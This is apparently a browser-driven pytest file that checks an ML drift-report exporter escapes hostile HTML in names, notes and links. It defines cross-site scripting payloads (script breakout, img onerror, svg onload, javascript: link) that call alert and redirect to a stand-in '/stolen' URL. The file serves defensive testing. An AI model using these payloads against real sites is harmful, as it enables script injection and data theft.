"""A report on hostile names and values, as browsers get it."""

from __future__ import annotations

import gzip
from collections.abc import Callable, Mapping, Sequence
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from exporter.reports.contents import ReportColumn
from exporter.reports.making import make_report
from tests.support.api_server import Server
from tests.support.browser import Browser, Page
from tests.support.done_reports import add_done_report
from tests.support.fakes import FakeRegistry
from tests.support.report_inputs import binary_input, binary_rows, live_rows, reference_parquet

ROWS = 200
# Each would set `ran`, open a dialog and tell another host.
RUN = "window.ran=1;alert(1);location='http://127.0.0.1:1/stolen'"
SCRIPT = f"</script><script>{RUN}</script>"
IMAGE = f'"><img src=x onerror="{RUN}">'
DRAWING = f"</textarea></title><svg onload={RUN}>"
LINK = f'<a href="javascript:{RUN}">click</a>'


@pytest.fixture(scope="module")
def hostile_html() -> bytes:
    """A report whose model, columns, categories and notes are scripts."""

    def rename(columns: Mapping[str, Sequence[Any]]) -> dict[str, Sequence[Any]]:
        values = [SCRIPT, IMAGE, DRAWING, LINK]
        return {SCRIPT: columns["amount"], IMAGE: [values[n % 4] for n in range(len(columns["country"]))]}

    live, *own = binary_rows(ROWS, 1, shift=1.0)
    answers: list[Any] = own
    base, predictions, scores, labels = binary_rows(ROWS, 2)
    given = replace(
        binary_input(),
        model=SCRIPT,
        columns=(
            ReportColumn(SCRIPT, "feature", "number", 0.1),
            ReportColumn(IMAGE, "feature", "category", 0.1),
            ReportColumn("prediction", "prediction", "category", 0.1),
            ReportColumn("score", "score", "number", 0.1),
        ),
        rows=live_rows(rename(live), *answers),
        reference_rows=reference_parquet(rename(base), prediction=predictions, score=scores, target=labels),
        reason=f"drift of {IMAGE}",
        notes=(SCRIPT, DRAWING),
        links={IMAGE: f"http://127.0.0.1/{SCRIPT}", "no link": f"javascript:{RUN}"},
    )
    return gzip.decompress(make_report(given).html)


@pytest.fixture(scope="module")
def served(serve_module: Callable[..., Server], hostile_html: bytes) -> Callable[[str], str]:
    """URLs of the report, `escaped` and with `raw` characters, as an exporter serves them."""
    registry = FakeRegistry()
    server = serve_module(registry)
    raw = hostile_html.replace(b"\\u003c", b"<")
    assert raw != hostile_html
    for name, content in (("escaped", hostile_html), ("raw", raw)):
        files = {"html": content}
        add_done_report(server.service.store, name, files=files, mlflow_state="off", evidently_state="off")
    return lambda name: f"{server.client.base_url}/models/fraud/versions/1/reports/{name}"


def await_drawing(page: Page) -> None:
    page.wait_for("document.querySelectorAll('.js-plotly-plot .main-svg').length > 4")


@pytest.mark.needs("chromium")
def test_it_looks_as_without_protection_and_runs_nothing_of_a_name_or_value(
    browser: Browser, served: Callable[[str], str], hostile_html: bytes, tmp_path: Path
) -> None:
    file = tmp_path / "report.html"
    file.write_bytes(hostile_html)
    pictures: list[bytes] = []
    for url in (file.as_uri(), served("escaped")):
        with browser.open(url) as page:
            await_drawing(page)
            pictures.append(page.screenshot(tmp_path / f"{len(pictures)}.png").read_bytes())
            if url == file.as_uri():
                continue
            assert all(text in page.text for text in (SCRIPT, IMAGE))
            plots = page.evaluate("document.querySelectorAll('.js-plotly-plot').length")
            page.evaluate("document.querySelectorAll('td button').forEach(button => button.click())")
            page.wait_for(f"document.querySelectorAll('.js-plotly-plot').length > {plots}")
            assert page.evaluate("window.ran") is None
            assert page.dialogs == []
            assert [asked for asked in page.requests if not asked.startswith("data:")] == [url]
            assert (
                page.evaluate("document.querySelectorAll('[onerror], [onload], [href^=javascript]').length")
                == 0
            )
    assert pictures[0] == pictures[1]


@pytest.mark.needs("chromium")
def test_without_the_escapes_a_value_would_run(browser: Browser, served: Callable[[str], str]) -> None:
    with browser.open(served("raw")) as page:
        assert any("Ignored call to 'alert()'" in error for error in page.errors)
        assert page.dialogs == []
